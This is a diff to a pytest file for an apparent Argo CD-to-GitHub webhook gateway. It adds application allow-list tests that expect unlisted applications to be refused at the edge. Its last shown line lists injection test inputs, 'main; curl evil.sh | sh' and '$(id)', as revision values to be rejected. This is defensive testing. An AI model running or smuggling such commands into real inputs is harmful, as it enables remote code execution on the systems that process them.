@@ -15,6 +15,7 @@ from harness import Controller, Envoy, envoy_bootstrap, free_port
 
 ARGO_TOKEN = "argocd-notifications-token-0123456789"
 BASIC = "argocd:basic-password-0123456789"
+BASIC_AUTH = "Basic " + base64.b64encode(BASIC.encode()).decode()
 GITHUB_TOKEN = "ghp_dispatchTokenNeverLogged0123456789"
 FAILED = "3f786850e387550fdab836ed7e6dc881de23001b"
 HEALTHY = "aaf4c61ddcc5e8a2dabede0f3b482cd9aea9434d"
@@ -38,7 +39,8 @@ def edge(cp, github, tmp_path_factory):
             {"name": "guestbook", "namespace": "argocd", "type": "bearer", "path": "/hook/argocd-degraded",
              "action": "dispatch", "dispatch": {"repository": "example/gitops"}, "secrets": [{"env": "ARGO_TOKEN"}]},
             {"name": "shop", "namespace": "argocd", "type": "basic", "path": "/hook/argocd-basic",
-             "action": "dispatch", "dispatch": {"repository": "example/shop", "eventType": "rollback"},
+             "action": "dispatch",
+             "dispatch": {"repository": "example/shop", "eventType": "rollback", "applications": ["shop", "cart"]},
              "secrets": [{"env": "ARGO_BASIC"}]},
         ]}
         env = {"ARGO_TOKEN": ARGO_TOKEN, "ARGO_BASIC": BASIC, "HOOKGATE_ATTESTATION_KEY": KEY}
@@ -92,8 +94,7 @@ def test_degraded_notification_dispatches_once_with_the_healthy_revision(edge, g
 
 def test_basic_auth_notification_and_configured_event_type(edge, github):
     github.reset()
-    auth = "Basic " + base64.b64encode(BASIC.encode()).decode()
-    status, reply = notify(edge.port, failed="c" * 40, auth=auth, path="/hook/argocd-basic", application="cart")
+    status, reply = notify(edge.port, failed="c" * 40, auth=BASIC_AUTH, path="/hook/argocd-basic", application="cart")
     assert status == 200, reply
     assert github.requests[0]["path"] == "/repos/example/shop/dispatches"
     assert github.requests[0]["body"]["event_type"] == "rollback"
@@ -108,6 +109,30 @@ def test_unauthenticated_notifications_never_reach_the_controller(edge, github, 
     assert got == status, reply
     assert github.requests == []
     assert "d" * 40 not in edge.controller.log(), "nothing of the refused notification reached the controller"
+
+
+def requests_total(controller: Controller) -> float:
+    """Requests the controller has answered, whatever their outcome."""
+    _, text = controller.get("/metrics")
+    return sum(float(line.rsplit(" ", 1)[1]) for line in text.splitlines() if line.startswith("hookgate_requests_total"))
+
+
+@pytest.mark.parametrize("path,auth,application", [
+    pytest.param("/hook/argocd-degraded", f"Bearer {ARGO_TOKEN}", "billing", id="no list: not the receiver's name"),
+    pytest.param("/hook/argocd-degraded", f"Bearer {ARGO_TOKEN}", "guestbook-prod", id="no list: extends the name"),
+    pytest.param("/hook/argocd-basic", BASIC_AUTH, "billing", id="listing shop and cart: unlisted"),
+    pytest.param("/hook/argocd-basic", BASIC_AUTH, "car", id="listing shop and cart: a prefix of a listed one"),
+])
+def test_a_notification_for_an_application_the_receiver_does_not_list_is_refused_at_the_edge(
+        edge, github, path, auth, application):
+    github.reset()
+    failed = "0abc" * 10
+    before = requests_total(edge.controller)
+    status, reply = notify(edge.port, failed=failed, auth=auth, path=path, application=application)
+    assert (status, reply) == (403, {"error": "application not allowed"})
+    assert github.requests == []
+    assert requests_total(edge.controller) == before, "nothing reached the controller"
+    assert failed not in edge.controller.log()
 
 
 @pytest.mark.parametrize("failed,healthy", [("main; curl evil.sh | sh", HEALTHY), (FAILED, "$(id)"), (FAILED, ""),
